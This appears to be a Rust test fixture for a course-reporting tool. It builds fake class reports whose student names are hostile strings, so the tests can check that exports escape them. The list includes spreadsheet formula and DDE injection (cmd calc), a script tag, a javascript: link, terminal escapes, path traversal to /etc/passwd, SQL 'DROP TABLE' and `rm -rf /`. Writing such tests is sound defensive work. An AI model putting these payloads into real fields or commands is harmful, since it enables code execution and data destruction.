//! A class to set: values that are written down, with other people's text wherever it may stand.

use jiff::Timestamp;
use jiff::tz::TimeZone;
use landfall::checks::{Evidence, Finding, Fix, FoundBy, Totals, Verdict, check};
use landfall::class::*;
use std::collections::BTreeMap;

/// Names that do harm wherever they are set without care.
pub fn hostile_names() -> Vec<String> {
    [
        "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        " \u{a0}+1",
        "＝1+1",
        "Ann;=1+1",
        "Ann\r\n=1+1",
        "Lee, \"=1+1\"",
        "<script>alert(1)</script>",
        "]]><failure message=\"x\">",
        "&lt;b&gt; &#61;1",
        "a|b|c",
        "`rm -rf /`",
        "# one\n\n## two\n- three",
        "[click](javascript:alert(1)) ![x](https://example.org/x.png)",
        "\u{202e}nnA\u{2066}",
        "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m",
        "nul\u{0}, not a character\u{ffff}\u{fffe}",
        "日本語の名前がとても長い学生の名前です",
        "    Points Possible",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}",
        "",
        "   ",
        "../../etc/passwd",
        "'; DROP TABLE students; --",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([
        "x".repeat(10_000),
        "\u{301}".repeat(10_000),
        "=".repeat(10_000),
    ])
    .collect()
}

pub fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

const STEPS: [(&str, &str, bool); 4] = [
    ("alb.targets", "alb", false),
    ("alb.https", "alb", true),
    ("rds.network", "rds", false),
    ("rds.inbound", "rds", false),
];

/// A class of students with these names, of every standing in turn. The names stand in every other sentence as well.
pub fn class_of(names: &[String]) -> ClassReport {
    const STANDINGS: [Standing; 7] = [
        Standing::Stuck,
        Standing::Done,
        Standing::UnderWay,
        Standing::NothingYet,
        Standing::CannotTell,
        Standing::Unreadable,
        Standing::NotSubmitted,
    ];
    let students = names
        .iter()
        .enumerate()
        .map(|(number, name)| student(number, name, STANDINGS[number % STANDINGS.len()]))
        .collect();
    class(students)
}

/// The report of these students.
pub fn class(students: Vec<StudentReport>) -> ClassReport {
    let count = |standing| {
        let same = students.iter().filter(|one| one.standing == standing);
        same.count()
    };
    let stuck: Vec<&StudentReport> = students.iter().filter(|one| one.stuck.is_some()).collect();
    ClassReport {
        schema: ClassReport::SCHEMA,
        landfall: "0.1.0",
        course: "An API to AWS".to_owned(),
        made_at: at("2026-11-24T09:00:00Z"),
        detail: Detail::Full,
        anonymised: false,
        deadline: Some(at("2026-11-22T22:59:00Z")),
        steps: STEPS
            .map(|(id, lesson, optional)| StepColumn {
                id: id.to_owned(),
                title: format!("The step {id}"),
                lesson: lesson.to_owned(),
                lesson_title: format!("The lesson {lesson}"),
                optional,
            })
            .to_vec(),
        standings: Standings {
            done: count(Standing::Done),
            under_way: count(Standing::UnderWay),
            stuck: count(Standing::Stuck),
            nothing_yet: count(Standing::NothingYet),
            cannot_tell: count(Standing::CannotTell),
            unreadable: count(Standing::Unreadable),
            not_submitted: count(Standing::NotSubmitted),
        },
        stuck: stuck
            .first()
            .and_then(|first| first.stuck.as_ref())
            .map(|place| StuckPlace {
                step: place.step.clone(),
                check: place.check.clone(),
                title: place.title.clone(),
                cause: place.cause.clone(),
                students: stuck.iter().map(|one| one.key.clone()).collect(),
                of: students.iter().filter(|one| !one.steps.is_empty()).count(),
                since: place.since,
            })
            .into_iter()
            .collect(),
        alike: students
            .first()
            .map(|first| Alike {
                students: vec![first.key.clone()],
                why: AlikeWhy::SameAccount,
                say: format!("{} shares an account. Ask.", first.name),
            })
            .into_iter()
            .collect(),
        quizzes: vec![quiz()],
        remarks: students
            .iter()
            .map(|one| format!("The override for \"{}\" fits nobody.", one.name))
            .collect(),
        students,
        moment: Moment {
            zone: TimeZone::fixed(jiff::tz::offset(1)),
            now: at("2026-11-24T09:00:00Z"),
        },
    }
}

/// One student.
pub fn student(number: usize, name: &str, standing: Standing) -> StudentReport {
    let judged = !matches!(
        standing,
        Standing::CannotTell | Standing::Unreadable | Standing::NotSubmitted
    );
    let verdicts = match standing {
        Standing::Done => [Verdict::Passed; 4],
        Standing::Stuck => [
            Verdict::Failed,
            Verdict::Missing,
            Verdict::Attested,
            Verdict::Unknown,
        ],
        Standing::UnderWay => [
            Verdict::Passed,
            Verdict::Skipped,
            Verdict::Pending,
            Verdict::Blocked,
        ],
        _ => [Verdict::Missing; 4],
    };
    let steps: BTreeMap<String, StepCell> = STEPS
        .iter()
        .zip(verdicts)
        .filter(|_| judged)
        .map(|((id, ..), verdict)| {
            let cell = StepCell {
                verdict,
                since: None,
                overridden: false,
            };
            ((*id).to_owned(), cell)
        })
        .collect();
    let (done, of) = match standing {
        Standing::Done => (4, 4),
        Standing::Stuck | Standing::UnderWay => (1, 3),
        Standing::NothingYet => (0, 3),
        _ => (0, 0),
    };
    StudentReport {
        key: format!("student-{}", number + 1),
        name: name.to_owned(),
        email: Some(format!("{name}@example.com")),
        id: (!number.is_multiple_of(5)).then(|| (4000 + number).to_string()),
        sis_id: Some(name.to_owned()),
        login: Some(format!("={name}")),
        section: Some(format!("-{name}")),
        account: Some("********9012".to_owned()),
        region: Some("us-east-1".to_owned()),
        standing,
        trouble: (!judged).then(|| format!("{name}: the file ends in the middle. Ask again.")),
        evidence: judged.then_some(EvidenceKind::Bundle),
        file: Some(format!("{name}.json")),
        looked_at: judged.then(|| at("2026-11-23T10:00:00Z")),
        late: judged.then_some(number.is_multiple_of(2)),
        steps,
        totals: Totals::default(),
        done,
        of,
        score: judged.then(|| 100.0 * done as f64 / of as f64),
        stuck: (standing == Standing::Stuck).then(|| Stuck {
            step: "alb.targets".to_owned(),
            check: "alb.targets-healthy".to_owned(),
            title: "Targets are healthy".to_owned(),
            cause: Some("target-port-closed".to_owned()),
            summary: Some(format!("the group {name} lets nobody in")),
            since: Some(at("2026-11-21T08:00:00Z")),
        }),
        at_step: (standing == Standing::UnderWay).then(|| AtStep {
            step: "rds.network".to_owned(),
            title: "The step rds.network".to_owned(),
            verdict: Verdict::Pending,
        }),
        drift: vec![format!("{name} went back")],
        overrides: vec![format!("{name} was excused")],
        notes: vec![name.to_owned()],
        findings: findings(name, verdicts, judged),
        map: None,
        quiz: judged.then_some(QuizSum {
            answered: 12,
            share: 2.0 / 3.0,
        }),
    }
}

fn findings(name: &str, verdicts: [Verdict; 4], judged: bool) -> Vec<StepFindings> {
    let known = check("rds.private").or_else(|| landfall::checks::checks().next());
    let known = known.unwrap();
    let findings = STEPS.iter().zip(verdicts).filter(|_| judged);
    findings
        .map(|((id, ..), verdict)| StepFindings {
            step: (*id).to_owned(),
            title: format!("The step {id}"),
            findings: vec![Finding {
                check: known.id,
                title: known.title,
                verdict,
                summary: format!("the group {name} lets nobody in"),
                cause: None,
                evidence: vec![Evidence::new(
                    "ec2:DescribeSecurityGroups",
                    name,
                    "IpPermissions",
                    name,
                    name,
                    FoundBy::Name,
                )],
                ruled_out: vec![name.to_owned()],
                fix: vec![Fix::run(name, name)],
                advice: None,
                blocked_by: None,
                missing_permission: None,
            }],
        })
        .collect()
}

fn quiz() -> ClassQuiz {
    let question = |id: &str, right, n| QuestionItem {
        question: id.to_owned(),
        kind: "choice",
        n,
        not_known: 0,
        right,
        interval: None,
        facility: None,
        discrimination: None,
        confident_errors: 1,
        most_chosen_wrong: None,
        median_seconds: None,
        judged: 0,
        overridden: 0,
        points: Vec::new(),
    };
    let mut open = question("two-zones", 0, 8);
    open.points = vec![PointItem {
        point: "balancer-reroutes".to_owned(),
        n: 8,
        said: 1,
        partly: 1,
        not_said: 6,
        facility: None,
    }];
    ClassQuiz {
        deck: "chapter-review".to_owned(),
        title: "Chapter review".to_owned(),
        learners: 8,
        counts_only: true,
        questions: vec![
            question("easy", 8, 8),
            question("half", 4, 8),
            question("never-tried", 0, 0),
            open,
        ],
    }
}
